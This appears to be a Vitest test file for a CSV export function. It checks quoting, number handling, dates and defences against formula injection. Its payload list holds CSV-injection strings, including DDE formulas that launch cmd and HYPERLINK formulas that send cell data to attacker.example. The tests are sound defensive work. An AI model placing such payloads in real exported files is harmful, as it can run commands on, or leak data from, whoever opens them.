import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

const cellsOf = (values: string[]) =>
  toCsv(
    ['v'],
    values.map((v) => [v]),
  )
    .split('\r\n')
    .slice(1, -1);

// OWASP "CSV Injection" payloads, plus the two from issue 14 that slipped past the old `-<digit>` exemption.
const OWASP_PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: please click")`,
  `=1+2";=1+2`,
  `=1+2'" ;,=1+2`,
  `=DDE("cmd";"/C calc";"!A0")A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `=cmd|' /C notepad'!'A1'`,
  `\t=1+1`,
  `\r=1+1`,
  `-1+1+cmd|' /C calc'!A0`,
  `-0+HYPERLINK("http://attacker.example","x")`,
  `-1e3+cmd|' /C calc'!A0`,
  `\uFF1D1+1`,
];

describe('toCsv', () => {
  it('quotes commas, quotes and newlines per RFC 4180', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x,y', 'say "hi"'],
          ['line\nbreak', null],
        ],
      ),
    ).toBe('a,b\r\n"x,y","say ""hi"""\r\n"line\nbreak",\r\n');
  });

  it.each(OWASP_PAYLOADS)('neutralises the formula %j with a leading quote', (payload) => {
    const line = toCsv(['v'], [[payload]]).split('\r\n')[1]!;
    const unquoted = line.startsWith('"') ? line.slice(1, -1).replace(/""/g, '"') : line;
    expect(unquoted).toBe(`'${payload}`);
  });

  it('keeps plain numbers raw so spreadsheets still read them as numbers', () => {
    expect(cellsOf(['-3.5', '-1', '42', '-0.25', '-2e-3', '1.5E+10', '0'])).toEqual([
      '-3.5',
      '-1',
      '42',
      '-0.25',
      '-2e-3',
      '1.5E+10',
      '0',
    ]);
    expect(toCsv(['v'], [[-3.5], [-1e-7]])).toBe('v\r\n-3.5\r\n-1e-7\r\n');
  });

  it('writes dates as ISO 8601', () => {
    expect(toCsv(['t'], [[new Date('2026-01-02T03:04:05Z')]])).toBe('t\r\n2026-01-02T03:04:05.000Z\r\n');
  });
});
